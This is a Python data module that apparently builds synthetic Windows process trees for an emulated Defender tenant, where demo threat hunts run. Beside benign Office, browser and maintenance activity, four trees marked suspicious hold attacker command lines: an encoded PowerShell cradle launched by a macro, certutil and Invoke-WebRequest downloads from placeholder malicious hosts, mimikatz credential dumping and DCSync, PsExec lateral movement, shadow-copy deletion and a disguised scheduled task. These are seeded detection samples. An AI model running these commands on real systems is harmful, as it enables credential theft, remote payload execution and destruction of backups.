"""Value tables of the synthetic tenant: the process trees DeviceProcessEvents is made of.

Every tree has exactly :data:`TREE_SLOTS` processes, created in slot order on one device by one
user. A slot's parent is an earlier slot (an ``int``) or a process already running when the day
started (a name from :data:`~airflow_provider_mtp.emulator.tenant_data.images.BOOT_RANKS`), so
ids, names and creation times of parents and grandparents agree across rows. ``{user}``, ``{n}``
and ``{host}`` in command lines become the tree's account, a small number and another device.
Weights of suspicious trees are small so demo hunts find a handful per day.
"""

from __future__ import annotations

from typing import Any

from airflow_provider_mtp.emulator.tenant_data.activity import ENCODED_STAGE2

TREE_SLOTS = 5


def _p(
    image: str,
    cmd: str,
    parent: int | str,
    *,
    account: str = "user",
    integrity: str = "Medium",
    extra: str = "",
    remote: bool = False,
) -> dict[str, Any]:
    """One process of a tree: ``image`` is a file name (its usual path) or a full path."""
    return {
        "image": image,
        "cmd": cmd,
        "parent": parent,
        "account": account,
        "integrity": integrity,
        "extra": extra,
        "remote": remote,
    }


_CONHOST = "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"

#: (weight, five processes).
PROCESS_TREES: tuple[tuple[int, tuple[dict[str, Any], ...]], ...] = (
    (40, (
        _p("svchost.exe", "svchost.exe -k netsvcs -p -s Schedule", "services.exe", account="system", integrity="System"),
        _p("taskhostw.exe", "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly", 0),
        _p("WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding", "svchost.exe", account="system", integrity="System"),
        _p("RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", "svchost.exe"),
        _p("SearchProtocolHost.exe", '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{n}', "SearchIndexer.exe", account="system", integrity="System"),
    )),
    (30, (
        _p("chrome.exe", '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"', "explorer.exe"),
        _p("chrome.exe", '"chrome.exe" --type=gpu-process --field-trial-handle={n}', 0),
        _p("chrome.exe", '"chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --field-trial-handle={n}', 0),
        _p("chrome.exe", '"chrome.exe" --type=renderer --lang=en-US --field-trial-handle={n}', 0),
        _p("chrome.exe", '"chrome.exe" --type=renderer --lang=en-US --field-trial-handle={n}', 0),
    )),
    (30, (
        _p("OUTLOOK.EXE", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle', "explorer.exe"),
        _p("msedge.exe", '"msedge.exe" --single-argument https://contoso.sharepoint.com/sites/team/notes-{n}', 0),
        _p("msedge.exe", '"msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --field-trial-handle={n}', 1),
        _p("msedge.exe", '"msedge.exe" --type=renderer --lang=en-US --field-trial-handle={n}', 1),
        _p("EXCEL.EXE", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "C:\\Users\\{user}\\Documents\\budget-{n}.xlsx"', "explorer.exe"),
    )),
    (25, (
        _p("ms-teams.exe", '"ms-teams.exe" msteams:system-initiated', "explorer.exe"),
        _p("WINWORD.EXE", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\Q{n}-report.docx"', "explorer.exe"),
        _p("notepad.exe", '"C:\\Windows\\system32\\notepad.exe" C:\\Users\\{user}\\Desktop\\notes-{n}.txt', "explorer.exe"),
        _p("msedge.exe", '"msedge.exe" --profile-directory=Default', "explorer.exe"),
        _p("msedge.exe", '"msedge.exe" --type=renderer --lang=en-US --field-trial-handle={n}', 3),
    )),
    (25, (
        _p("svchost.exe", "svchost.exe -k netsvcs -p -s Schedule", "services.exe", account="system", integrity="System"),
        _p("cmd.exe", 'C:\\Windows\\system32\\cmd.exe /c "C:\\ProgramData\\Contoso\\inventory.cmd"', 0, account="system", integrity="System"),
        _p("powershell.exe", "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\Contoso\\inventory.ps1", 1, account="system", integrity="System"),
        _p("reg.exe", 'reg.exe query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion" /v CurrentBuild', 2, account="system", integrity="System"),
        _p("conhost.exe", _CONHOST, 1, account="system", integrity="System"),
    )),
    (20, (
        _p("cmd.exe", 'cmd.exe /c "C:\\Program Files\\Contoso\\Agent\\healthcheck.bat"', "explorer.exe"),
        _p("conhost.exe", _CONHOST, 0),
        _p("powershell.exe", "powershell.exe Get-Service | Where-Object Status -eq 'Running'", 0),
        _p("net.exe", "net.exe use \\\\srv-file-01\\shared", 2),
        _p("net1.exe", "C:\\Windows\\system32\\net1 use \\\\srv-file-01\\shared", 3),
    )),
    (15, (
        _p("Code.exe", '"C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"', "explorer.exe"),
        _p("powershell.exe", "powershell.exe -NoLogo -NoExit", 0),
        _p("git.exe", "git.exe fetch origin --prune", 1),
        _p("python.exe", "python.exe -m pytest tests -q", 1),
        _p("python.exe", 'python.exe -c "from multiprocessing.spawn import spawn_main; spawn_main(parent_pid={n})" --multiprocessing-fork', 3),
    )),
    (8, (
        _p("ContosoAgent.exe", '"C:\\Program Files\\Contoso\\Agent\\ContosoAgent.exe" --scan', "services.exe", account="system", integrity="System"),
        _p("cmd.exe", "cmd.exe /c gpupdate /target:computer", 0, account="system", integrity="System"),
        _p("gpupdate.exe", "gpupdate  /target:computer", 1, account="system", integrity="System"),
        _p("conhost.exe", _CONHOST, 1, account="system", integrity="System"),
        _p("msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V", "services.exe", account="system", integrity="System"),
    )),
    (4, (
        _p("wsmprovhost.exe", "C:\\Windows\\system32\\wsmprovhost.exe -Embedding", "svchost.exe", remote=True),
        _p("powershell.exe", "powershell.exe -NoProfile -Command Get-EventLog -LogName System -Newest 50", 0, remote=True),
        _p("whoami.exe", "whoami.exe", 1, remote=True),
        _p("cmd.exe", "cmd.exe /c ipconfig /all", 1, remote=True),
        _p("conhost.exe", _CONHOST, 3, remote=True),
    )),
    # Suspicious: a macro that runs an encoded download cradle, then discovery.
    (1, (
        _p("WINWORD.EXE", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{user}\\Downloads\\invoice_{n}.docm"', "explorer.exe"),
        _p("powershell.exe", f"powershell.exe -NoP -W Hidden -EncodedCommand {ENCODED_STAGE2}", 0, extra='{"ParentMacro":true}'),
        _p("cmd.exe", "cmd.exe /c whoami /all && nltest /dclist:contoso.local", 1),
        _p("whoami.exe", "whoami /all", 2),
        _p("nltest.exe", "nltest /dclist:contoso.local", 2),
    )),
    # Suspicious: a download, a beacon, and credential theft from the beacon.
    (1, (
        _p("cmd.exe", "cmd.exe", "explorer.exe", integrity="High"),
        _p("powershell.exe", 'powershell.exe -nop -c "Invoke-WebRequest -Uri http://malware-drop.example.org/p.exe -OutFile C:\\Users\\Public\\p.exe"', 0, integrity="High"),
        _p("certutil.exe", "certutil.exe -urlcache -split -f http://evil-c2.example.net/beacon.dll C:\\Users\\Public\\beacon.dll", 1, integrity="High"),
        _p("rundll32.exe", "rundll32.exe C:\\Users\\Public\\beacon.dll,Start", 1, integrity="High"),
        _p("mimikatz.exe", 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', 3, integrity="High"),
    )),
    # Suspicious: lateral movement with PsExec, then shadow copies deleted on the target.
    (1, (
        _p("cmd.exe", "cmd.exe", "explorer.exe", integrity="High"),
        _p("PsExec.exe", "PsExec.exe \\\\{host} -accepteula -s cmd.exe", 0, integrity="High"),
        _p("PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "services.exe", account="system", integrity="System"),
        _p("cmd.exe", "cmd.exe", 2, account="system", integrity="System"),
        _p("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", 3, account="system", integrity="System"),
    )),
    # Suspicious: persistence and DCSync from an elevated PowerShell.
    (1, (
        _p("powershell.exe", "powershell.exe", "explorer.exe", integrity="High"),
        _p("schtasks.exe", 'schtasks.exe /create /tn "OneDrive Update" /tr C:\\Users\\Public\\updater.exe /sc onlogon /f', 0, integrity="High"),
        _p("C:\\Users\\Public\\Mimikatz.EXE", 'Mimikatz.EXE "lsadump::dcsync /user:krbtgt" exit', 0, integrity="High"),
        _p("C:\\Users\\{user}\\Downloads\\psexec.exe", "psexec.exe \\\\{host} -u CONTOSO\\administrator cmd.exe", 0, integrity="High"),
        _p("conhost.exe", _CONHOST, 3, integrity="High"),
    )),
)  # fmt: skip
